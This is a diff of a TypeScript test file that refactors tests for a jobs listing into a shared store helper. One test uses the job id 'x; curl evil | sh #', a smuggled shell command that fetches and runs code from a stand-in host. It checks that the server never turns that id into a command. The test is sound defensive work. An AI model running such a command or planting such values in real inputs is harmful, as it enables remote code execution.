@@ -160,40 +160,35 @@ describe('what does not fit', () => {
   });
 });
 
-test('what to do about a job is fields, and names no command for an id that is not one of a job', async () => {
+/** A store with the results of some jobs, by the names of their objects. */
+async function storeOfJobs(jobs: Readonly<Record<string, { readonly id: string; readonly status: string }>>) {
   const store = createMemoryStore();
-  for (const [name, status] of [
-    ['a', 'failed'],
-    ['b', 'unknown'],
-  ])
-    await store.put(
-      `results/run-function/dt=2026-11-19/${name}.json`,
-      Buffer.from(JSON.stringify({ id: 'x; curl evil | sh #', type: 'run-function', status })),
-    );
+  for (const [name, job] of Object.entries(jobs)) {
+    const result = { ...job, type: 'run-function', attempts: 1, finishedAt: '2026-11-19T09:00:00Z' };
+    await store.put(`results/run-function/dt=2026-11-19/${name}.json`, Buffer.from(JSON.stringify(result)));
+  }
+  return store;
+}
+
+test('what to do about a job is fields, and names no command for an id that is not one of a job', async () => {
+  const id = 'x; curl evil | sh #';
+  const store = await storeOfJobs({ a: { id, status: 'failed' }, b: { id, status: 'unknown' } });
   await using server = await connect(contextOver(store));
 
-  const listed = await server.call('jobs', {});
-  const one = await server.call('jobs', { id: 'x; curl evil | sh #' });
-
-  for (const { text, value } of [listed, one]) {
+  for (const args of [{}, { id }]) {
+    const { text, value } = await server.call('jobs', args);
     expect(text).not.toContain('platform-sync ');
-    expect(JSON.stringify(value)).toContain('x; curl evil | sh #');
+    expect(JSON.stringify(value)).toContain(id);
     expect(JSON.stringify(value)).not.toMatch(/platform-sync |"command"/);
   }
 });
 
 test('jobs come with what to do, the unknown ones first', async () => {
-  const store = createMemoryStore();
-  const result = (id: string, status: string) =>
-    store.put(
-      `results/run-function/dt=2026-11-19/${id}.json`,
-      Buffer.from(
-        `{"id":"${id}","type":"run-function","status":"${status}","attempts":1,"finishedAt":"2026-11-19T09:00:00Z"}`,
-      ),
-    );
-  await result('a', 'done');
-  await result('b', 'unknown');
-  await result('c', 'failed');
+  const store = await storeOfJobs({
+    a: { id: 'a', status: 'done' },
+    b: { id: 'b', status: 'unknown' },
+    c: { id: 'c', status: 'failed' },
+  });
   await using server = await connect(contextOver(store));
 
   const { value } = await server.call('jobs', { limit: 2 });
